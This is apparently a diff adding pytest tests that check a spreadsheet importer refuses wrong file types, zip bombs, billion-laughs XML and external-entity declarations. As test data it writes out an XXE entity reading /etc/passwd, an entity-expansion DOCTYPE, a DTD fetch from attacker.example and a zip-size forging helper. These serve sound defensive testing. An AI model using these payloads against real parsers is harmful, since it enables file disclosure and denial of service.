@@ -1,0 +1,246 @@
+"""Load stage, the files refused before any parser runs: wrong kinds, zip bombs, XML bombs, XXE."""
+
+from __future__ import annotations
+
+import struct
+import zipfile
+from pathlib import Path
+
+import openpyxl
+import pytest
+
+from importer.errors import LoadError
+from importer.load import load_table, sheet_names
+from importer.xlsx_safety import (
+    MAX_UNCOMPRESSED_BYTES,
+    OLE2_SIGNATURE,
+    RATIO_CHECKED_ABOVE,
+    MarkupScanner,
+)
+
+SHEET = "xl/worksheets/sheet1.xml"
+
+
+def good_workbook(tmp_path: Path, name: str = "input.xlsx") -> Path:
+    book = openpyxl.Workbook()
+    sheet = book.active
+    assert sheet is not None
+    sheet.append(["Name", "Zip"])
+    sheet.append(["Ann", "02134"])
+    path = tmp_path / name
+    book.save(path)
+    return path
+
+
+def rewrite_part(path: Path, part: str, content: bytes) -> Path:
+    """A copy of the workbook at ``path`` with ``part`` replaced (or added)."""
+    with zipfile.ZipFile(path) as source:
+        parts = {info.filename: source.read(info) for info in source.infolist()}
+    parts[part] = content
+    out = path.with_name("changed.xlsx")
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
+        for name, body in parts.items():
+            target.writestr(name, body)
+    return out
+
+
+def declare_size(path: Path, part: str, size: int) -> None:
+    """Overwrite the uncompressed size the zip's central directory declares for ``part``."""
+    raw = bytearray(path.read_bytes())
+    entry = raw.find(b"PK\x01\x02")
+    while entry != -1:
+        name_length = struct.unpack_from("<H", raw, entry + 28)[0]
+        if raw[entry + 46 : entry + 46 + name_length] == part.encode():
+            struct.pack_into("<I", raw, entry + 24, size)
+            path.write_bytes(bytes(raw))
+            return
+        entry = raw.find(b"PK\x01\x02", entry + 4)
+    raise AssertionError(f"{part} not in {path}")
+
+
+def sheet_xml(path: Path) -> str:
+    with zipfile.ZipFile(path) as archive:
+        return archive.read(SHEET).decode()
+
+
+# --- wrong kinds of file ----------------------------------------------------------------------
+
+
+def ole2(*stream_names: str) -> bytes:
+    """The start of an OLE2 compound file whose directory names ``stream_names``."""
+    directory = b"".join(name.encode("utf-16-le").ljust(128, b"\0") for name in stream_names)
+    return OLE2_SIGNATURE + bytes(504) + directory
+
+
+@pytest.mark.parametrize(
+    ("name", "content", "words"),
+    [
+        ("old.xls", ole2("Workbook", "SummaryInformation"), "old Excel 97-2003 .xls file"),
+        ("old.xlsx", ole2("Workbook"), "old Excel 97-2003 .xls file"),
+        ("old.csv", ole2("Book"), "old Excel 97-2003 .xls file"),
+        ("locked.xlsx", ole2("EncryptionInfo", "EncryptedPackage"), "password-protected"),
+        (
+            "data.xlsx",
+            b"Name,Phone\nAnn,02134\n",
+            r"not an Excel workbook \(it looks like text/CSV\)",
+        ),
+        ("data.xls", b"Name\tPhone\nAnn\t02134\n", "it looks like text/CSV"),
+        ("junk.xlsx", bytes(range(256)) * 8, "neither text nor a workbook"),
+        ("empty.xlsx", b"", "the file is empty"),
+    ],
+)
+def test_wrong_files_are_refused_saying_what_they_are(
+    tmp_path: Path, name: str, content: bytes, words: str
+) -> None:
+    path = tmp_path / name
+    path.write_bytes(content)
+    with pytest.raises(LoadError, match=words) as caught:
+        load_table(path)
+    assert caught.value.file == str(path)
+    with pytest.raises(LoadError, match=words):
+        sheet_names(path)
+
+
+def test_password_protected_message_says_how_to_fix_it(tmp_path: Path) -> None:
+    path = tmp_path / "locked.xlsx"
+    path.write_bytes(ole2("EncryptedPackage"))
+    with pytest.raises(LoadError, match="remove the password in Excel and save again"):
+        load_table(path)
+
+
+def test_zip_that_is_not_a_workbook_is_refused(tmp_path: Path) -> None:
+    path = tmp_path / "notes.xlsx"
+    with zipfile.ZipFile(path, "w") as archive:
+        archive.writestr("readme.txt", "hello")
+    with pytest.raises(LoadError, match="not a readable Excel workbook"):
+        load_table(path)
+
+
+def test_damaged_workbook_is_refused(tmp_path: Path) -> None:
+    path = good_workbook(tmp_path)
+    path.write_bytes(path.read_bytes()[: path.stat().st_size // 2])
+    with pytest.raises(LoadError, match="not a readable Excel workbook"):
+        load_table(path)
+
+
+# --- zip bombs --------------------------------------------------------------------------------
+
+
+def test_a_part_inflating_far_beyond_its_stored_size_is_refused(tmp_path: Path) -> None:
+    # 60 MiB of one repeated byte stores in ~60 KB: a ratio of about 1000:1.
+    size = RATIO_CHECKED_ABOVE + (10 << 20)
+    path = rewrite_part(good_workbook(tmp_path), "xl/media/padding.xml", b" " * size)
+    with pytest.raises(LoadError, match="zip bomb") as caught:
+        load_table(path)
+    assert "xl/media/padding.xml" in str(caught.value)
+
+
+def test_a_workbook_declaring_more_than_the_limit_is_refused(tmp_path: Path) -> None:
+    path = good_workbook(tmp_path)
+    declare_size(path, "xl/styles.xml", MAX_UNCOMPRESSED_BYTES + 1)
+    with pytest.raises(LoadError, match="would unpack to 1.0 GiB"):
+        load_table(path)
+
+
+def test_a_part_larger_than_it_declares_is_refused_while_inflating(tmp_path: Path) -> None:
+    path = good_workbook(tmp_path)
+    declare_size(path, SHEET, 100)  # a lie: the sheet inflates to more
+    with pytest.raises(LoadError, match="more than it declares"):
+        load_table(path)
+
+
+# --- XML bombs and external entities ----------------------------------------------------------
+
+XXE = (
+    '<?xml version="1.0" encoding="UTF-8"?>\n'
+    '<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
+)
+LAUGHS = (
+    '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
+    + "".join(
+        f' <!ENTITY lol{i} "{("&lol" + str(i - 1 if i > 1 else "") + ";") * 10}">\n'
+        for i in range(1, 10)
+    )
+    + "]>\n"
+)
+
+
+@pytest.mark.parametrize(
+    ("part", "declaration"),
+    [
+        (SHEET, XXE),
+        ("xl/sharedStrings.xml", LAUGHS),
+        ("xl/workbook.xml", LAUGHS),
+        ("[Content_Types].xml", '<!doctype x SYSTEM "http://attacker.example/x.dtd">'),
+        ("xl/_rels/workbook.xml.rels", '<?xml version="1.0"?><!ENTITY x "y">'),
+    ],
+    ids=["xxe-in-sheet", "laughs-in-shared-strings", "laughs-in-workbook", "doctype", "entity"],
+)
+def test_xml_declarations_are_refused_before_parsing(
+    tmp_path: Path, part: str, declaration: str
+) -> None:
+    original = good_workbook(tmp_path)
+    with zipfile.ZipFile(original) as archive:
+        names = archive.namelist()
+        body = archive.read(part).decode() if part in names else "<sst/>"
+    body = body.split("?>", 1)[-1] if body.startswith("<?xml") else body
+    if part == SHEET:
+        body = body.replace("<v>", "<v>&xxe;", 1)
+    path = rewrite_part(original, part, (declaration + body).encode())
+    with pytest.raises(LoadError, match="XML declaration") as caught:
+        load_table(path)
+    assert part in str(caught.value)
+    assert "root:" not in str(caught.value)
+    with pytest.raises(LoadError, match="XML declaration"):
+        sheet_names(path)
+
+
+def test_comments_and_cdata_are_allowed(tmp_path: Path) -> None:
+    original = good_workbook(tmp_path)
+    xml = sheet_xml(original).replace("<sheetData>", "<!-- made by hand --><sheetData>", 1)
+    assert "<!--" in xml
+    path = rewrite_part(original, SHEET, xml.encode())
+    assert load_table(path).frame.loc[2, "Zip"] == "02134"
+
+
+def test_a_utf16_part_is_refused(tmp_path: Path) -> None:
+    original = good_workbook(tmp_path)
+    xml = sheet_xml(original)
+    path = rewrite_part(original, SHEET, xml.encode("utf-16"))
+    with pytest.raises(LoadError, match="not in UTF-8"):
+        load_table(path)
+
+
+@pytest.mark.parametrize(
+    "chunks",
+    [
+        [b"<a><", b"!DOCTYPE a>"],
+        [b"<a><!", b"DOCTYPE a>"],
+        [b"<a><!DOC", b"TYPE a>"],
+        [b"<!ENTITY x 'y'>"],
+        [b"<a>", b"<", b"!", b"E", b"NTITY"],
+    ],
+)
+def test_scanner_finds_declarations_split_across_chunks(chunks: list[bytes]) -> None:
+    scanner = MarkupScanner("part.xml", file="f.xlsx")
+    with pytest.raises(LoadError, match="XML declaration"):
+        for chunk in chunks:
+            scanner.feed(chunk)
+        scanner.feed(b"", final=True)
+
+
+@pytest.mark.parametrize(
+    "chunks",
+    [
+        [b"<a><!-", b"- note --></a>"],
+        [b"<a><![CDA", b"TA[x]]></a>"],
+        [b"<a>Hello!</a>", b"<b>!!</b>"],
+        [b"!<a/>"],
+    ],
+)
+def test_scanner_lets_comments_cdata_and_text_pass(chunks: list[bytes]) -> None:
+    scanner = MarkupScanner("part.xml", file="f.xlsx")
+    for chunk in chunks:
+        scanner.feed(chunk)
+    scanner.feed(b"", final=True)
+    assert scanner.carry.endswith(chunks[-1][-9:])
